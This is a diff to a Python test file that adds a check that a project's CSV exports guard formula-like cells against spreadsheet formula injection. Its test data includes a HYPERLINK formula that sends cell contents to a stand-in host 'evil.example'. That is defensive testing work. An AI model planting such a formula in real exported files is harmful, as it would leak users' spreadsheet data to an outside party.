@@ -1,8 +1,9 @@
-"""Bad input refused with a clear sentence (issue 16, point 8): workbooks that unpack or pad
-out hugely."""
+"""Bad input (issue 16, point 8): workbooks that unpack or pad out hugely are refused with a
+clear sentence; formula-like cells in exported CSV are guarded."""
 
 from __future__ import annotations
 
+import csv
 import time
 import zipfile
 from pathlib import Path
@@ -10,8 +11,10 @@ from pathlib import Path
 import pytest
 from openpyxl import Workbook
 
+from claimdesk.importers.export import write_table
 from claimdesk.importers.table import ImportError_
 from claimdesk.importers.xlsx import read_xlsx
+from claimdesk.ui.outbox_view import _write_csv
 
 SHEET = "xl/worksheets/sheet1.xml"
 
@@ -86,3 +89,19 @@ def test_an_ordinary_workbook_still_reads(tmp_path: Path) -> None:
     table = read_xlsx(small_workbook(tmp_path / "claims.xlsx"))
     assert table.headers == ["Sale date", "Quantity"]
     assert table.rows == [["2026-01-02", "2"]]
+
+
+EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+CELLS = [EVIL, "@SUM(A1)", "+1+2", "-2+3", "\tx", "-5", "-1.25", "+3", "plain", ""]
+GUARDED = ["'" + EVIL, "'@SUM(A1)", "'+1+2", "'-2+3", "'\tx", "-5", "-1.25", "+3", "plain", ""]
+
+
+def test_window_exports_guard_formula_cells_and_keep_numbers(tmp_path: Path) -> None:
+    path = tmp_path / "export.csv"
+    write_table(path, [f"c{n}" for n in range(len(CELLS))], [CELLS])
+    [_header, row] = list(csv.reader(path.open(encoding="utf-8-sig", newline="")))
+    assert row == GUARDED
+    outbox_export = tmp_path / "outbox.csv"
+    _write_csv(outbox_export, [["header"], [*CELLS, 7]])
+    [_header, row] = list(csv.reader(outbox_export.open(encoding="utf-8-sig", newline="")))
+    assert row == [*GUARDED, "7"]
